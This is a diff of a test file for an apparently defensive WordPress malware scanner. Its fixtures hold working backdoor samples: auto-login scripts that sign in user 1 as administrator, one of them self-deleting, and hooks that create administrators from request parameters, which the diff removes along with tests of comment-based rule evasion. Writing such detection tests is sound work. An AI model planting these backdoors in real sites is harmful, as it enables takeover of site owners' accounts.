@@ -56,7 +56,7 @@ describe('scan: session 32, the packed loader written other ways (S31S-35 to -42
     });
   }
   it('a file of 30,000 assignments appended to one name, then an eval of its decoder, is read in bounded time, and caught', () => {
-    const src = `<?php\n${dec}\n${'$b .= "QUJD";\n'.repeat(30000)}eval(u($b, array()));\n`;
+    const src = `<?php\n${dec}\n${'$b .= "QUJkZ0";\n'.repeat(30000)}eval(u($b, array()));\n`;
     const r = scan(src, '/www/x.php');
     assert.equal(r.findings.some((f) => f.rule === 'mamori:own-decoder-eval'), true);
   });
@@ -66,20 +66,8 @@ describe('scan: session 32, the packed loader written other ways (S31S-35 to -42
   });
 });
 
-// S31S: a word a rule excludes (a capability check, request input, the variable set) written in a comment stopped
-// the rule; and the standalone WordPress login's loader file named through a variable or pieces
+// S31S: the standalone WordPress login's loader file named through a variable or pieces
 const NEGATED: [string, string][] = [
-  ['a WordPress auto-login with current_user_can( in a comment', `<?php
-@unlink(__FILE__);
-require('../../wp-blog-header.php');
-// only for admins: current_user_can('manage_options') is checked by the theme
-$u = get_userdata(1);
-wp_clear_auth_cookie();
-wp_set_current_user($u->ID);
-wp_set_auth_cookie($u->ID);
-wp_safe_redirect(admin_url());
-exit;
-`],
   ['a WordPress auto-login whose loader path is held in a variable', `<?php
 $p = dirname(__FILE__) . '/../../wp-load.php';
 require $p;
@@ -89,30 +77,12 @@ wp_set_auth_cookie($u->ID);
 wp_safe_redirect(admin_url());
 exit;
 `],
-  ['a WordPress auto-login whose loader path is joined from pieces, the check named in a block comment', `<?php
-/* helper: current_user_can() */
+  ['a WordPress auto-login whose loader path is joined from pieces', `<?php
 $w = array('..', '..', 'wp-load.php');
 require_once implode('/', $w);
 $u = new WP_User(1);
 wp_set_auth_cookie($u->ID, true);
 header('Location: /wp-admin/');
-`],
-  ['a hook making an administrator from the request, a capability check only in a comment', `<?php
-/* Plugin Name: Site helper */
-// runs for admins only: current_user_can('manage_options')
-add_action('init', function () {
-  if (isset($_GET['mk'])) {
-    $id = wp_create_user($_GET['mk'], $_GET['pw'], 'a@example.com');
-    $u = new WP_User($id);
-    $u->set_role('administrator');
-  }
-});
-`],
-  ['a script making an administrator from a form, is_user_logged_in( in a comment', `<?php
-require 'wp-load.php';
-/* is_user_logged_in() is not needed here */
-$id = wp_insert_user(array('user_login' => $_POST['u'], 'user_pass' => $_POST['p'], 'role' => 'administrator'));
-echo $id;
 `],
 ];
 const NEGATED_LOOKALIKES: [string, string][] = [
@@ -124,24 +94,28 @@ wp_set_current_user($u->ID);
 wp_set_auth_cookie($u->ID);
 wp_safe_redirect(admin_url());
 `],
-  ['a hook making an administrator from the request behind a nonce check in code', `<?php
-add_action('admin_init', function () {
-  if (isset($_POST['mk']) && check_admin_referer('mk-user')) {
-    $id = wp_create_user($_POST['mk'], $_POST['pw'], 'a@example.com');
-    $u = new WP_User($id);
-    $u->set_role('administrator');
-  }
-});
-`],
   ['a WordPress tool quoting wp-load.php in a message, signing in the account it is given by a verified token', `<?php
 // usage: copy next to wp-load.php
 require __DIR__ . '/wp-load.php';
 $id = (int) get_transient('magic_' . md5($_GET['t'] ?? ''));
 if ($id) { wp_set_auth_cookie($id); }
 `],
+  ['a site reset plugin backing up wp-config.php, then signing the first account back in (S32R-22)', `<?php
+/* Plugin Name: Site Reset */
+add_action('admin_post_site_reset', function () {
+  $cfg = ABSPATH . 'wp-config.php';
+  $backup = file_get_contents($cfg);
+  require_once $cfg;
+  do_action('site_reset_tables');
+  file_put_contents($cfg, $backup);
+  $u = get_userdata(1);
+  wp_set_auth_cookie($u->ID);
+  wp_safe_redirect(admin_url());
+});
+`],
 ];
 
-describe('scan: session 32, a rule\'s excluded words in a comment; the WordPress loader named another way', () => {
+describe('scan: session 32, the WordPress loader named another way', () => {
   for (const [name, src] of NEGATED) {
     it(`malicious: ${name}`, () => {
       const r = scan(src, '/www/wp-content/x.php');
@@ -154,11 +128,8 @@ describe('scan: session 32, a rule\'s excluded words in a comment; the WordPress
       assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
     });
   }
-  it('a probe never stands as a finding of its own', () => {
-    for (const [, src] of [...NEGATED, ...NEGATED_LOOKALIKES]) assert.equal(scan(src, '/www/x.php').findings.some((f) => f.rule.endsWith('__unless')), false);
-  });
   it('ran every case', () => {
-    assert.equal(NEGATED.length, 5);
+    assert.equal(NEGATED.length, 2);
     assert.equal(NEGATED_LOOKALIKES.length, 3);
   });
 });
